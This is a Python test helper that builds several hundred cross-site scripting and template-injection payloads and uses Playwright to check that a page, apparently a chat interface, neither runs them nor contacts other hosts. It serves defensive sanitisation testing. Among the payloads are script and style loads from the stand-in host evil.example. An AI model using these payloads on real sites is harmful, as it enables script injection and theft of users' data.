"""A few hundred texts of markup and script, and what tells whether a page ran one of them."""

from __future__ import annotations

import itertools
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from playwright.sync_api import Dialog, Page

RUN = "window.__pwned=1"
AWAY = "http://evil.example/x"
_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "onpointerenter",
)
_TAGS = (
    "img src=x",
    "svg",
    "video src=x",
    "audio src=x",
    "body",
    "details open",
    "input autofocus",
    "iframe src=about:blank",
    "object data=x",
    "marquee",
    "select autofocus",
    "svg><animate attributeName=x dur=1s",
    "math><mi",
    "style",
    "link rel=stylesheet href=x",
)
_WRAPPED = (
    "<math><mtext><table><mglyph><style><!--</style>{}",
    "<svg></p><style><a id='</style>{}'>",
    "<noscript><p title='</noscript>{}'>",
    "<textarea>{}</textarea>",
    "<title>{}</title>",
    "--><!-- ---!>{}",
    "<![CDATA[{}]]>",
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    "</blockquote></article>{}",
    "'\"></span>{}",
    "```\n{}\n```",
    "`{}`",
    "> {}",
    "- {}",
    "| a |\n|---|\n| {} |",
    "<template>{}</template>",
)
_LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg onload={RUN}>",
    AWAY,
    f"//{AWAY[7:]}",
)
_OTHERS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={AWAY}></script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"\\u003cscript\\u003e{RUN}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}",
    f"＜script＞{RUN}＜/script＞",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    "{% raw %}{{7*7}}",
    "{{config}}",
    f"<%= {RUN} %>",
    f"<style>@import '{AWAY}';</style>",
    f"<div style=background:url({AWAY})>",
    "<base href=http://evil.example/>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<form action={AWAY}><button autofocus>",
    f"\\[\\href{{javascript:{RUN}}}{{x}}\\]",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'>",
    "<embed src=x>",
)


def payloads() -> list[str]:
    """Return a few hundred, all of them tried to set window.__pwned or to ask another host."""
    tagged = [f"<{tag} {event}={RUN}>" for tag, event in itertools.product(_TAGS, _EVENTS)]
    wrapped = [wrap.format(f"<img src=x onerror={RUN}>") for wrap in _WRAPPED]
    links = [
        form.format(link)
        for form, link in itertools.product(
            ("[a]({})", "![a]({})", "<{}>", "<a href='{}'>a</a>", "[a]: {}\n[a]"), _LINKS
        )
    ]
    return [*tagged, *wrapped, *links, *_OTHERS]


def batches(most: int) -> list[str]:
    """Return all payloads as texts of at most `most` characters."""
    texts = [""]
    for payload in payloads():
        if len(texts[-1]) + len(payload) > most:
            texts.append("")
        texts[-1] += f" {payload}\n"
    return texts


class Watch:
    """What a page did that it must not: dialogs, and requests to other hosts."""

    def __init__(self, page: Page, address: str) -> None:
        self.seen: list[str] = []
        self._own = (address, "about:", "data:")
        page.on("dialog", self._dialog)
        page.on("request", lambda request: self._went(request.url))
        page.on("framenavigated", lambda frame: self._went(frame.url))

    def _dialog(self, dialog: Dialog) -> None:
        self.seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _went(self, url: str) -> None:
        if not url.startswith(self._own):
            self.seen.append(url)


ADDED = """root => [...document.querySelectorAll(root)].flatMap(place => [...place.querySelectorAll(
  "script, iframe, img, object, embed, video, audio, form, base, meta, link, style, math, marquee, template")]
  .filter(e => !e.closest("button")).map(e => e.outerHTML.slice(0, 120)))"""
HANDLERS = """() => [...document.querySelectorAll("#conversation *, main *")].flatMap(e => [...e.attributes]
  .filter(a => /^on/i.test(a.name)
    || (/^(href|src|action|data)$/i.test(a.name) && /^\\s*((java|vb)script|data):/i.test(a.value)))
  .map(a => a.name + "=" + a.value.slice(0, 80)))"""


def is_clean(page: Page, watch: Watch, root: str) -> None:
    """Fail where anything ran, was asked for, or was made from a payload."""
    assert page.evaluate("window.__pwned") is None
    assert watch.seen == []
    assert page.evaluate(ADDED, root) == []
    assert page.evaluate(HANDLERS) == []
